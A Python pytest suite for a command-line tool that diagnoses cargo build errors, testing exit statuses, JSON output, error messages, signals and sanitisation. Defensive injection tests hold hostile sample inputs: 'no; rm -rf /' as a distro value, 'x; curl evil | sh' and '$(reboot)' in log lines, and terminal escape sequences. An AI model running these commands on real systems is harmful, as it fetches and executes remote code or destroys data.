"""doctor explain as a program: exit codes, streams, formats, bad input."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
from pathlib import Path

import jsonschema
import pytest

import doctor

LINKER = b"error: linker `cc` not found\n  |\n  = note: No such file or directory (os error 2)\n"
OWN = b"error[E0308]: mismatched types\n --> src/main.rs:1:20\n  |\n1 | fn main() { 1 }\n  |             ^\n"
SCHEMA = Path(doctor.__file__).parent / "report" / "schemas" / "explain-1.json"


def run(*words: str, data: bytes = b"", env: dict[str, str] | None = None) -> subprocess.CompletedProcess[bytes]:
    argv = [sys.executable, "-m", "doctor", *words]
    return subprocess.run(argv, input=data, capture_output=True, timeout=60, env=env, check=False)


@pytest.mark.parametrize(
    ("data", "status"),
    [
        pytest.param(LINKER, 1, id="a known failure is 1"),
        pytest.param(b"error: something that nobody knows\n", 3, id="an unknown failure is 3"),
        pytest.param(OWN, 3, id="an error in one's own code is 3: red stays red"),
        pytest.param(b"    Finished `dev` profile in 1s\n", 0, id="a passed build is 0"),
        pytest.param(b"", 0, id="nothing at all is 0"),
    ],
)
def test_the_exit_status_tells_the_outcome(data: bytes, status: int) -> None:
    done = run("explain", data=data)
    assert done.returncode == status
    assert done.stderr == b""


@pytest.mark.parametrize(
    "data", [LINKER, OWN, b"", b"\xff\xfe\x00", b"error: x\n" * 500], ids=["known", "own", "empty", "odd", "many"]
)
def test_json_is_the_whole_output_and_fits_its_schema(data: bytes) -> None:
    done = run("explain", "--format", "json", "--distro", "ubuntu:22.04", data=data)
    jsonschema.validate(json.loads(done.stdout), json.loads(SCHEMA.read_text(encoding="utf-8")))


def test_the_json_of_a_missing_linker_says_what_the_contract_says() -> None:
    answer = json.loads(run("explain", "--format", "json", "--distro", "ubuntu:22.04", data=LINKER).stdout)
    first = answer["diagnoses"][0]
    assert answer["context"]["distro"] == "ubuntu:22.04"
    assert (first["rule"], first["confidence"], first["captures"]) == ("linker-missing", "certain", {"linker": "cc"})
    assert first["fixes"][0]["commands"] == ["sudo apt-get install -y gcc libc6-dev"]
    assert first["evidence"][0] == {"file": "-", "line": 1, "text": "error: linker `cc` not found"}


@pytest.mark.parametrize(
    ("words", "message"),
    [
        pytest.param(["explain", "/no/such/file"], "there is no such file", id="a missing file"),
        pytest.param(["explain", "."], "is a folder", id="a folder"),
        pytest.param(["explain", sys.executable], "binary file", id="a binary"),
        pytest.param(["explain", "--distro", "no; rm -rf /"], "write ID or ID:VERSION", id="a distro that is none"),
        pytest.param(["frobnicate"], "invalid choice", id="a command that is none"),
        pytest.param(["explain", "--frobnicate"], "unrecognized arguments", id="an option that is none"),
    ],
)
def test_bad_input_is_one_clear_message_and_status_2(words: list[str], message: str) -> None:
    done = run(*words)
    assert done.returncode == 2
    assert message in done.stderr.decode()
    assert b"Traceback" not in done.stderr
    assert done.stdout == b""


@pytest.mark.skipif(os.geteuid() == 0, reason="root may read everything")
def test_an_unreadable_file_is_named(tmp_path: Path) -> None:
    log = tmp_path / "secret.log"
    log.write_bytes(LINKER)
    log.chmod(0)
    done = run("explain", str(log))
    assert done.returncode == 2
    assert b"cannot be read: Permission denied" in done.stderr


def test_several_logs_make_one_answer(tmp_path: Path) -> None:
    (tmp_path / "a.log").write_bytes(LINKER)
    (tmp_path / "b.log").write_bytes(b"/usr/bin/ld: cannot find -lpq: No such file or directory\n")
    answer = json.loads(run("explain", "--format", "json", str(tmp_path / "a.log"), str(tmp_path / "b.log")).stdout)
    assert [one["rule"] for one in answer["diagnoses"]] == ["linker-missing", "library-missing"]
    assert answer["diagnoses"][1]["evidence"][0]["file"].endswith("b.log")


def test_quiet_says_nothing_where_nothing_is_known() -> None:
    assert run("explain", "--quiet", data=OWN).stdout == b""
    assert b"linker-missing" in run("explain", "--quiet", data=LINKER).stdout


def test_a_reader_that_went_away_is_no_error() -> None:
    read, write = os.pipe()
    os.close(read)
    argv = [sys.executable, "-m", "doctor", "knowledge", "list"]
    done = subprocess.run(argv, stdout=write, stderr=subprocess.PIPE, timeout=60, check=False)
    os.close(write)
    assert b"Traceback" not in done.stderr
    assert b"Exception" not in done.stderr


def _interruptible() -> None:
    """What runs in the background of a shell inherits an ignored interrupt; the program under test must not."""
    signal.signal(signal.SIGINT, signal.SIG_DFL)


def test_an_interrupt_ends_with_130_and_no_traceback() -> None:
    read, write = os.pipe()
    argv = [sys.executable, "-m", "doctor", "explain", "--format", "json"]
    with subprocess.Popen(
        argv,
        stdin=read,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        preexec_fn=_interruptible,  # noqa: PLW1509 (one thread only)
    ) as process:
        os.close(read)
        os.write(write, LINKER)
        with pytest.raises(subprocess.TimeoutExpired):
            process.wait(0.7)  # it waits for the end of the pipe
        process.send_signal(signal.SIGINT)
        _, said = process.communicate(timeout=30)
    os.close(write)
    assert process.returncode == 130
    assert b"Traceback" not in said


def test_works_without_home_and_in_the_c_locale() -> None:
    done = run(
        "explain", data="error: linker `cc` not found … ‘x’\n".encode(), env={"PATH": os.environ["PATH"], "LC_ALL": "C"}
    )
    assert done.returncode == 1


def test_cargo_calls_it_with_its_own_name_first() -> None:
    code = "import sys; sys.argv = ['cargo-doctor', 'doctor', 'explain', '--quiet']; from doctor.__main__ import main; sys.exit(main())"
    done = subprocess.run([sys.executable, "-c", code], input=LINKER, capture_output=True, timeout=60, check=False)
    assert done.returncode == 1
    assert b"linker-missing" in done.stdout


def test_escape_sequences_of_a_log_never_come_out(tmp_path: Path) -> None:
    nasty = b"error: linker `c\x1b]0;owned\x07c\x1b[2J` not found\n\x1b[31mPackage ev\xe2\x80\xaeil was not found\n"
    (tmp_path / "nasty.log").write_bytes(nasty)
    for form in ("text", "json"):
        out = run("explain", "--format", form, str(tmp_path / "nasty.log")).stdout
        assert b"\x1b" not in out
        assert b"\xe2\x80\xae" not in out


def test_a_shell_command_in_a_log_reaches_no_fix() -> None:
    data = b"error: toolchain 'x; curl evil | sh' is not installed\nerror: toolchain '$(reboot)' is not installed\n/usr/bin/ld: cannot find -l$(reboot)\n"
    answer = json.loads(run("explain", "--format", "json", data=data).stdout)
    commands = [command for one in answer["diagnoses"] for fix in one["fixes"] for command in fix["commands"]]
    assert not [command for command in commands if "reboot" in command or "evil" in command]


def test_version_and_help_say_what_there_is() -> None:
    assert run("--version").stdout.decode().strip() == f"doctor {doctor.__version__}"
    helped = run("--help").stdout.decode()
    assert "exit status" in helped
    assert all(name in helped for name in ("check", "explain", "knowledge"))
